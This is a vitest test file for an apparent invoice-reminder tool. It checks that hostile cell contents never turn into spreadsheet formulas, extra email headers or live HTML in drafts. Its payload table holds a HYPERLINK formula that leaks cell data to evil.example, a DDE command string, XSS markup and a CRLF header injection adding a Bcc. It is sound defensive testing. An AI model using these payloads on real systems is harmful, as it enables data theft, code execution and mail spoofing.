import { describe, expect, it } from "vitest";
import type { Cell } from "../../../src/book/grid.ts";
import { readHtml } from "../../mail/support/html-elements.ts";
import { HOSTILE_STRINGS } from "../../support/hostile-strings.ts";
import { PLAIN_HEADER } from "../../support/plain-book.ts";
import { putCell } from "../../workspace/sheets/build-spreadsheet.ts";
import { begin, type Story } from "../support/story.ts";

const HOSTILE: Readonly<Record<string, string>> = {
  "a formula that fetches": '=HYPERLINK("https://evil.example/?"&A1,"pay here")',
  "a formula in other words": '=IMPORTXML("https://evil.example","//a")',
  "a plus": "+1+1",
  "an at sign": "@SUM(A1:A9)",
  "a minus": '-2+3+cmd|" /C calc"!A0',
  "an apostrophe": "'=1+1",
  HTML: '<img src=x onerror=alert(1)></table><script>alert("x")</script>',
  "a new header": "Ada\r\nBcc: thief@evil.example\r\n\r\n<h1>Pay here</h1>",
  "a folded header": "Ada\n\tBcc: thief@evil.example",
  "50,000 characters": "x".repeat(50_000),
  "lone halves of characters": "A\ud800da \udc00Ltd",
  "text turned around": "\u202eLtd \u2066gnp.exe",
  "control characters": "A\u0000d\u0007a\u001b[31m Ltd",
  "tokens of a template": "{{totalOverdue}} {{{payLink}}} {{#items}}",
  Markdown: "[pay here](https://evil.example) ![x](https://evil.example/x.png)",
};

const FIELDS = [...PLAIN_HEADER, "Our ref", "Owner", "Do not chase", "Language", "Billing link"] as const;

/** A book in which every account is as it should be. */
function book(): Cell[][] {
  const good = (accountId: string): Cell[] => [
    accountId,
    `Customer ${accountId}`,
    `${accountId.toLowerCase()}@customer.example`,
    `INV-${accountId}`,
    "2026-11-10",
    100,
    "GBP",
    ...FIELDS.slice(PLAIN_HEADER.length).map(() => null),
  ];
  return [[...FIELDS], ...FIELDS.map((_, at) => good(`K-${at}`)), good("K-good")];
}

/** Formulas anywhere in the spreadsheets: nobody has written one. */
const formulas = (story: Story) =>
  Object.values(story.world.spreadsheets).flatMap(({ sheets }) =>
    sheets.flatMap(({ formulas: cells }) =>
      cells.flat().filter((formula) => formula !== null && formula !== undefined),
    ),
  );

/** The names of a message's headers, and what stands in its address headers. */
const headers = (raw: string) => {
  const head = raw
    .slice(0, raw.indexOf("\r\n\r\n"))
    .replace(/\r\n[ \t]+/g, " ")
    .split("\r\n");
  return head.map((line) => line.slice(0, line.indexOf(":")).toLowerCase());
};

const KNOWN =
  /^(date|message-id|from|to|cc|subject|mime-version|content-type|content-transfer-encoding|x-chase-.*|x-unsent|reply-to|auto-submitted|precedence|x-auto-response-suppress|references|in-reply-to|list-.*)$/;

describe.each(Object.entries(HOSTILE))("cells that hold %s", (_what, text) => {
  it("make drafts or faults, all counted, and neither formula, header nor markup", async () => {
    const story = await begin({ accounts: book() });
    // Every account but the last one has the text in another field.
    for (const at of FIELDS.keys()) putCell(story.sheet("Accounts"), at + 2, at + 1, text);
    const report = story.setting("Company name", text).on("2026-11-23").run();
    expect(report.isComplete).toBe(true);
    expect(formulas(story)).toEqual([]);
    expect(story.drafts().length).toBe(report.drafts);
    expect(report.drafts).toBe(story.logged("drafted").length);
    for (const { raw, to, html } of [...story.drafts(), ...story.sent()]) {
      for (const name of headers(raw)) expect(name).toMatch(KNOWN);
      expect(raw).not.toMatch(/^bcc:/im);
      // Not one line feed without its carriage return, nor one too long to be sent.
      expect(raw.replace(/\r\n/g, "")).not.toMatch(/[\r\n]/);
      expect(Math.max(...raw.split("\r\n").map(({ length }) => length))).toBeLessThan(999);
      expect(to).not.toContain("evil.example");
      expect(html).not.toMatch(/<script|<img|<[^>]*onerror=|<h1>Pay|href="https:\/\/evil/i);
    }
    const accounted = story.rows("Accounts").filter(({ Why }) => typeof Why === "string" && Why !== "");
    expect(accounted.length).toBe(FIELDS.length + 1);
    expect(String(story.rows("Accounts").at(-1)?.Draft)).toMatch(/^CB-/);
    expect(story.on("2026-11-24").run()).toMatchObject({ drafts: 0, withdrawn: 0, isComplete: true });
  });
});

/** Every sixteenth of the hostile strings, each in every field of an account of its own. */
const SAMPLE = HOSTILE_STRINGS.filter((_, at) => at % 16 === 0);

/** What a message is made of: its elements and their attributes. */
const kindsIn = (html: string) =>
  readHtml(html).elements.map(({ name, attributes }) => [name, ...attributes.keys()].join(" "));

it(`a sample of the Big List of Naughty Strings in every field: ${SAMPLE.length} × ${FIELDS.length}, all counted, nothing live`, async () => {
  const [header = [], ...good] = book();
  const row = good.at(-1) ?? [];
  const rows = SAMPLE.flatMap((text, of) =>
    FIELDS.map((_, at) =>
      row.map((cell, column) =>
        column === at ? text : typeof cell === "string" ? cell.replace("good", `${of}-${at}`) : cell,
      ),
    ),
  );
  const story = await begin({
    accounts: [header, ...rows.map((cells) => cells.map((cell) => (SAMPLE.includes(String(cell)) ? null : cell))), row],
  });
  rows.forEach((cells, at) => {
    cells.forEach((cell, column) => {
      if (SAMPLE.includes(String(cell))) putCell(story.sheet("Accounts"), at + 2, column + 1, cell);
    });
  });
  const report = story
    .setting("Reminders per run", 10_000)
    .setting("Reminders in first runs", 10_000)
    .on("2026-11-23")
    .run();
  expect(report.isComplete).toBe(true);
  expect(formulas(story)).toEqual([]);
  const drafts = story.drafts();
  expect(drafts.length).toBe(report.drafts);
  expect(report.drafts).toBe(story.logged("drafted").length);
  const harmless = new Set(drafts.filter(({ to }) => to.includes("k-good@")).flatMap(({ html }) => kindsIn(html)));
  expect(harmless.size).toBeGreaterThan(5);
  for (const { raw, html } of drafts) {
    for (const name of headers(raw)) expect(name).toMatch(KNOWN);
    expect(kindsIn(html).filter((kind) => !harmless.has(kind))).toEqual([]);
  }
  const told = story.rows("Accounts").filter(({ Why }) => typeof Why === "string" && Why !== "");
  expect(told.length).toBe(SAMPLE.length * FIELDS.length + 1);
});
